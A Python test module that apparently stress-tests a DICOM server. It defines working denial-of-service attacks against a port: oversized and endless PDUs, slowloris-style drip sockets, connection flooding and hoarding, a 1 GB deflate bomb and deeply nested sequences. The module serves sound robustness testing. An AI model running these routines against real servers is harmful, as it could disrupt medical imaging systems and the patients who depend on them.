"""The attacks: each is a function of the port that returns how many bytes or tries it took.

They last long enough for a good peer to come in between, and end by themselves.
"""

from __future__ import annotations

import time
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from struct import pack

from tests.attacks.attack_wire import (
    ACCEPTED,
    CT,
    DATA,
    DEFLATED,
    ECHO,
    ELSEWHERE,
    EXPLICIT,
    HOME,
    STORE,
    VERIFICATION,
    GoneError,
    Wire,
    associate,
    echo_once,
    fragment,
    head,
    message,
)

FOUR_GB = 2**32 - 1
MB = 10**6
GARBAGE = b"GET / HTTP/1.1\r\n\r\n"
ASSOCIATIONS, AT_ONCE = 600, 30


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    name
        What is done.
    run
        Does it and returns what it sent, in words.
    from_elsewhere
        Whether the good peer has an address of its own: the attacker uses up what one address
        may have.
    """

    name: str
    run: Callable[[int], str]
    from_elsewhere: bool = False

    @property
    def peer(self) -> str:
        """Address of the good peer."""
        return ELSEWHERE if self.from_elsewhere else HOME


def megabytes(size: int) -> str:
    """Return a number of bytes in words."""
    return f"{size / MB:.1f} MB"


def huge_associate(port: int, size: int = 300 * MB) -> str:
    """Claim an A-ASSOCIATE-RQ of 4 GB and begin to send it."""
    with Wire(port) as wire:
        return megabytes(wire.send(head(1, FOUR_GB)) + wire.flood(size))


def huge_pdu(port: int, size: int = 300 * MB) -> str:
    """Send one P-DATA-TF of 300 MB, far more than the receiver said it takes."""
    with Wire(port) as wire:
        wire.open((CT, EXPLICIT))
        wire.send(fragment(message(STORE, CT, b"1.2.3"), command=True, last=True))
        wire.send(head(DATA, size))
        return megabytes(wire.flood(size))


def endless_header(port: int, size: int = 350 * MB) -> str:
    """Send fragments of one object, none of them the last, as one element that has no end."""
    return _endless(port, size, pack("<HH2sHI", 0x0009, 0x1010, b"OB", 0, FOUR_GB - 1))


def endless_pixels(port: int, size: int = 350 * MB) -> str:
    """Do the same with Pixel Data."""
    return _endless(port, size, pack("<HH2sHI", 0x7FE0, 0x0010, b"OW", 0, FOUR_GB - 1))


def endless_command(port: int, size: int = 200 * MB) -> str:
    """Send fragments of a command, none of them the last."""
    piece, sent = fragment(bytes(2**16 - 12), command=True, last=False), 0
    with Wire(port) as wire, suppress(GoneError):
        wire.open((CT, EXPLICIT))
        while sent < size:
            sent += wire.send(piece)
    return megabytes(sent)


def echoes_ahead(port: int, seconds: float = 4.0) -> str:
    """Ask for C-ECHO again and again without waiting for an answer."""
    requests = fragment(message(ECHO, VERIFICATION), command=True, last=True) * 500
    sent, end = 0, time.monotonic() + seconds
    with Wire(port, seconds=1.0) as wire, suppress(GoneError):
        wire.open((VERIFICATION, EXPLICIT))
        while time.monotonic() < end:
            sent += wire.send(requests)
    return megabytes(sent)


def _endless(port: int, size: int, element: bytes) -> str:
    piece, sent = fragment(bytes(2**16 - 12), command=False, last=False), 0
    with Wire(port) as wire, suppress(GoneError):
        wire.open((CT, EXPLICIT))
        wire.send(fragment(message(STORE, CT, b"1.2.3"), command=True, last=True))
        wire.send(fragment(element, command=False, last=False))
        while sent < size:
            sent += wire.send(piece)
    return megabytes(sent)


def drips(port: int, sockets: int = 12, seconds: float = 4.0) -> str:
    """Send a good A-ASSOCIATE-RQ over many connections, one byte a second."""
    request, sent = associate(((VERIFICATION, EXPLICIT),)), 0
    with ExitStack() as stack:
        wires = [stack.enter_context(Wire(port)) for _ in range(sockets)]
        for byte in request[: int(seconds)]:
            for wire in wires:
                with suppress(GoneError):
                    sent += wire.send(bytes([byte]))
            time.sleep(1.0)
    return f"{sockets} sockets, {sent} B"


def silence(port: int, sockets: int = 12, seconds: float = 2.0) -> str:
    """Connect and say nothing."""
    with ExitStack() as stack:
        for _ in range(sockets):
            stack.enter_context(Wire(port))
        time.sleep(seconds)
    return f"{sockets} sockets"


def garbage(port: int, sockets: int = 50, seconds: float = 1.5) -> str:
    """Connect, say something that is no DICOM and stay."""
    with ExitStack() as stack:
        for _ in range(sockets):
            with suppress(GoneError):
                stack.enter_context(Wire(port)).send(GARBAGE)
        time.sleep(seconds)
    return f"{sockets} sockets"


def crowd(port: int, number: int = ASSOCIATIONS) -> str:
    """Make 600 good associations, 30 at once; raises ``GoneError`` unless all are served."""
    with ThreadPoolExecutor(AT_ONCE) as pool:
        served = sum(pool.map(lambda _: _served(port), range(number)))
    if served < number:
        raise GoneError(f"{number - served} of {number} associations were not served")
    return f"{served} associations"


def _served(port: int) -> bool:
    try:
        echo_once(port)
    except GoneError:
        return False
    return True


def hoard(port: int, number: int = 100, seconds: float = 1.5) -> str:
    """Hold as many associations open as one host can get."""
    held = 0
    with ExitStack() as stack:
        for _ in range(number):
            with suppress(GoneError):
                wire = stack.enter_context(Wire(port))
                held += wire.open((VERIFICATION, EXPLICIT)) == ACCEPTED
        time.sleep(seconds)
    return f"{held} of {number} held"


def deflate_bomb(port: int, size: int = 1000 * MB) -> str:
    """Send a deflated data set of 1 MB that inflates to 1,000 MB (PS3.5 section A.5)."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    bomb = squeeze.compress(pack("<HH2sHI", 0x0009, 0x1010, b"OB", 0, size))
    bomb += squeeze.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers back: one compressed megabyte stands for each.
    bomb += (squeeze.compress(bytes(MB)) + squeeze.flush(zlib.Z_FULL_FLUSH)) * (size // MB)
    bomb += squeeze.flush()
    with Wire(port) as wire:
        wire.open((CT, DEFLATED))
        status = wire.store(b"1.2.3.10", bomb)
    return f"{megabytes(len(bomb))}, status 0x{status:04X}"


def nested(port: int, depth: int = 200) -> str:
    """Send an object of sequences within sequences, and one nested 100 times deeper."""
    with Wire(port) as wire:
        wire.open((CT, EXPLICIT))
        some, many = (wire.store(b"1.2.3.11", _nest(n * depth)) for n in (1, 100))
    return f"{depth}, {100 * depth} deep: 0x{some:04X}, 0x{many:04X}"


def _nest(depth: int) -> bytes:
    """Return sequences of undefined length, one within the other (PS3.5 section 7.5)."""
    begin = pack("<HH2sHI", 0x0008, 0x1140, b"SQ", 0, FOUR_GB) + pack(
        "<HHI", 0xFFFE, 0xE000, FOUR_GB
    )
    end = pack("<HHI", 0xFFFE, 0xE00D, 0) + pack("<HHI", 0xFFFE, 0xE0DD, 0)
    return begin * depth + end * depth


ATTACKS = (
    Attack("A-ASSOCIATE that claims 4 GB", huge_associate),
    Attack("one P-DATA of 300 MB", huge_pdu),
    Attack("endless fragments, header", endless_header),
    Attack("endless fragments, Pixel Data", endless_pixels),
    Attack("endless fragments, command", endless_command),
    Attack("echoes without waiting", echoes_ahead),
    Attack("sockets at 1 byte/s", drips),
    Attack("silent sockets", silence),
    Attack("garbage", garbage),
    Attack("600 associations, 30 at once", crowd),
    Attack("100 associations held", hoard, from_elsewhere=True),
    Attack("deflate bomb of 1 GB", deflate_bomb),
    Attack("nested sequences", nested),
)
